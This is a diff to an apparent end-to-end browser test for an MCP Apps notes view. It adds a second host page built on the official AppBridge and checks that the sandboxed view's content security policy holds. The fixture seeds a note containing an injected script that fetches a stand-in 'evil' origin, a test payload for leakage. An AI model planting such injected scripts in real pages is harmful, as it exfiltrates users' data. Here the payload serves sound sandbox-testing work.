@@ -1,8 +1,11 @@
 """MCP Apps in Chromium: the reference site's notes view (``ui://project/notes_app``) rendered by a
-minimal host written to SEP-1865 (:mod:`tests.support.mcp_apps_host`: the host page and its sandbox
-proxy on two loopback origins, the view in the proxy's inner sandboxed frame under the CSP built from
-the resource's ``_meta.ui.csp``), the host's MCP side being the official Python SDK client that
-declared the extension, connected to the live server with Alice's token.
+host (:mod:`tests.support.mcp_apps_host`: the host page and its sandbox proxy on two loopback
+origins, the view in the proxy's inner sandboxed frame under the CSP built from the resource's
+``_meta.ui.csp``), the host's MCP side being the official Python SDK client that declared the
+extension, connected to the live server with Alice's token. Two host pages: one written here to
+SEP-1865, and one on the reference implementation's ``AppBridge`` (``@modelcontextprotocol/ext-apps``
+2.0.4, bundled with esbuild from ``tests/js``), so the page's ``{% mcp_app_bridge %}`` is checked
+against the official host side.
 
 * the view shows Alice's notes (not Bob's), gets the tool input and result from the host;
 * its button calls ``add_note`` through the host (``tools/call`` over postMessage) and shows the
@@ -40,17 +43,32 @@ from tests.support.browser import (
     open_chromium,
     require_chromium,  # noqa: F401 - fixture
     shot,
+    under_ci,
 )
 from tests.support.live import free_port, run_asgi_server
-from tests.support.mcp_apps_host import HOST_PAGE, SANDBOX_PAGE, Recorder
+from tests.support.mcp_apps_host import HOST_PAGE, OFFICIAL_HOST_PAGE, SANDBOX_PAGE, Recorder, build_app_bridge
 
 pytestmark = [pytest.mark.browser, pytest.mark.e2e, pytest.mark.django_db(transaction=True)]
 
 URI = "ui://project/notes_app"
 
 
+@pytest.fixture(params=["spec-host", "official-app-bridge"])
+def host_pages(request, tmp_path) -> dict[str, bytes]:
+    """The host page: the one written here to the spec, or the one on ext-apps's ``AppBridge``."""
+    if request.param == "spec-host":
+        return {"/host.html": HOST_PAGE}
+    try:
+        bundle = build_app_bridge(tmp_path / "app-bridge.js")
+    except FileNotFoundError:
+        if under_ci():
+            raise
+        pytest.skip("the ext-apps AppBridge is not installed (make js-install)")
+    return {"/host.html": OFFICIAL_HOST_PAGE, "/app-bridge.js": bundle}
+
+
 @pytest.fixture
-def world(settings, mint_token):
+def world(settings, mint_token, host_pages):
     """The live site, the host and sandbox origins, an undeclared origin (``evil``) and a declared one."""
     ports = {name: free_port() for name in ("site", "host", "sandbox", "evil", "allowed")}
     evil = f"http://127.0.0.1:{ports['evil']}"
@@ -78,7 +96,7 @@ def world(settings, mint_token):
         body=f"<script>fetch('{evil}/script-leak')</script>",
     )
     Note.objects.create(owner=bob, title="Bob's secret")
-    host = Recorder({"/host.html": HOST_PAGE})
+    host = Recorder(host_pages)
     sandbox = Recorder({"/sandbox.html": SANDBOX_PAGE})
     evil_listener, allowed_listener = Recorder(), Recorder()
     from project.asgi import application
